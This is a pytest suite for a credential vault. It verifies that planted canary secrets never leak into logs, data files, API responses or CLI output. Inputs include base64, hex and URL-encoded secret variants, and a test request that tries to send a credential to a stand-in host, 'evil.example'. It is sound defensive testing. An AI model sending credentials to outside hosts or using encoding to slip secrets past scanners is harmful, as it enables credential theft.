"""Secrets, API keys and personal access tokens are nowhere but where they belong.

Every server of this suite is scanned when it is disposed of (`conftest.leaks`): log at level debug, data directory,
database dump, audit export. Here the scan itself is shown to work, and the paths most likely to leak are walked.
"""

from __future__ import annotations

import base64
import stat
from urllib.parse import quote

import pytest
from alter_sdk import AlterSDKError

from conftest import leaks
from harness import canary
from harness.world import ApiError, World
from signing import Request, invent_key


@pytest.mark.parametrize(
    "encode",
    [
        bytes,
        lambda b: b.lower(),
        lambda b: b.hex().encode(),
        lambda b: b.hex().upper().encode(),
        base64.b64encode,
        base64.urlsafe_b64encode,
        lambda b: base64.b64encode(b"x" + b),
        lambda b: base64.b64encode(b"xy" + b),
        lambda b: quote(b, safe="").encode(),
        lambda b: b"".join(b"%%%02x" % c for c in b),
    ],
)
@pytest.mark.parametrize(
    "secret",
    [canary.token(), canary.password(), canary.access_key_id()],
    ids=["token", "password", "access_key_id"],
)
def test_scan_finds_a_secret_in_every_form(secret: str, encode):
    planted = b"\x00\xffsome text " + encode(secret.encode()) + b" more text"
    assert canary.scan("planted", planted)


@pytest.mark.parametrize(
    "text",
    [invent_key(), invent_key("ak"), "alter_key_" + "a" * 40, "grantd_pat_" + "A-_" * 14 + "x"],
    ids=["rk", "ak", "alter_key", "grantd_pat"],
)
def test_scan_finds_keys_and_tokens(text: str):
    assert canary.scan("planted", b"... " + text.encode() + b" ...")
    assert canary.scan("planted", base64.b64encode(b"{" + text.encode()))
    assert not canary.scan("planted", b"... " + text.encode() + b" ...", ignore=(text.encode(),))


def test_scan_is_quiet_about_prefixes_and_plain_text():
    assert canary.scan("clean", b"alter_rk_abcd grantd_pat_ alter_rk_ key_prefix sk_live other text" * 50) == []


async def test_nothing_leaks_on_any_path(private_world: World):
    world = private_world
    canaries = {"fields": {"extra": canary.token()}}
    secret = world.secret(
        **canaries,
        injections=[
            {"target": "header", "key": "X-Extra", "value_source": "additional_credentials.extra"},
            {"target": "query_param", "key": "k", "value_source": "token"},
        ],
    )
    basic = world.secret(f"user:{canary.password()}", credential_type="basic_auth")
    key = world.key
    async with world.vault() as app:
        for grant in (secret.grant_id, basic.grant_id):
            # The provider echoes the credential, and the client reports that answer to the server.
            await app.request("POST", world.corner.url(), grant_id=grant, json={"v": canary.token()})
            # A value in the query of the URL that the server is asked about.
            await app.request("GET", world.corner.url("echo", f"?q={canary.MARKER}"), grant_id=grant)
            for url in (world.corner.url("status", "/401"), world.corner.url("challenge", f"/403?q={canary.MARKER}")):
                with pytest.raises(AlterSDKError):
                    await app.request("GET", url, grant_id=grant)
            with pytest.raises(AlterSDKError):
                await app.request("GET", f"https://evil.example/?q={canary.MARKER}", grant_id=grant)
            with pytest.raises(AlterSDKError):
                await app.request("GET", world.corner.url(), grant_id=grant, user_token=canary.MARKER + ".b.c")
        world.api("POST", f"/managed-secrets/{secret.id}/rotate", {"value": canary.token(), **canaries})
        await app.request("GET", world.corner.url(), grant_id=secret.grant_id)
    # Secrets and keys in places where they do not belong.
    body = Request("POST", "/sdk/token", key.api_key, f'{{"grant_id":"{canary.MARKER}"'.encode()).sign()
    wrong_type = Request("POST", "/sdk/token", key.api_key, f'{{"grant_id":["{canary.MARKER}"]}}'.encode()).sign()
    for request in (
        body,
        wrong_type,
        world.token_request(canary.MARKER),
        world.signed("GET", f"/sdk/agents/{key.api_key}"),
        world.signed("GET", f"/sdk/nothing?key={key.api_key}"),
        world.signed("GET", "/sdk/scopes").set("x-api-key", key.api_key[:-1]),
        world.signed("GET", "/sdk/scopes").set("x-api-key", key.api_key + "x"),
        world.signed("GET", "/sdk/scopes").set("X-Alter-Signature", key.api_key),
        world.signed("GET", "/sdk/scopes").set("User-Agent", key.api_key),
        world.signed("GET", "/sdk/scopes").add("Authorization", f"Bearer {canary.MARKER}"),
        world.signed("GET", "/sdk/scopes").add("Cookie", f"session={canary.MARKER}"),
    ):
        world.send(request)
    world.server.assert_alive()
    for bad in ({"value": canary.token() + "\n"}, {"value": canary.token(), "surprise": canary.MARKER}):
        with pytest.raises(ApiError) as refused:
            world.api("POST", f"/managed-secrets/{secret.id}/rotate", bad)
        assert canary.MARKER not in refused.value.answer.body.decode()
    world.revoke(basic.grant_id)
    world.cli("keys", "revoke", world.mint().id)
    assert leaks(world.server) == []


async def test_value_of_the_last_grant_is_destroyed_and_nothing_is_left_after_kill(private_world: World):
    world = private_world
    secret = world.secret()
    async with world.vault() as app:
        await app.request("GET", world.corner.url(), grant_id=secret.grant_id)
    done = world.revoke(secret.grant_id)
    assert done["credential_destroyed"] is True
    world.server.kill()
    assert leaks(world.server) == []
    world.server.restart()
    assert world.send(world.token_request(secret.grant_id)).error in ("grant_revoked", "grant_deleted")


async def test_lists_and_objects_show_no_secret(world: World):
    secret = world.secret(fields={"extra": canary.token()})
    shown = [
        world.api("GET", "/managed-secrets"),
        world.api("GET", f"/managed-secrets/{secret.id}"),
        world.api("GET", f"/managed-secrets/{secret.slug}"),
        world.api("GET", "/keys"),
        world.api("GET", f"/keys/{world.key.id}"),
        world.api("GET", "/grants"),
        world.api("GET", f"/grants/{secret.grant_id}"),
        world.events(),
    ]
    assert canary.scan("answers of the management API", repr(shown).encode()) == []
    table = world.cli("managed-secrets", "list", output="table")
    assert secret.slug in table.stdout
    assert canary.scan("table", table.stdout.encode()) == []


def test_files_of_the_data_directory_are_private(world: World):
    directory = world.server.data_dir
    assert stat.S_IMODE(directory.stat().st_mode) == 0o700
    for name in ("root.key", "operator.pat"):
        assert stat.S_IMODE((directory / name).stat().st_mode) == 0o600
    assert (directory / "operator.pat").read_text().strip() == world.server.pat
    for path in directory.rglob("*"):
        if path.is_file():
            assert stat.S_IMODE(path.stat().st_mode) & 0o022 == 0, path
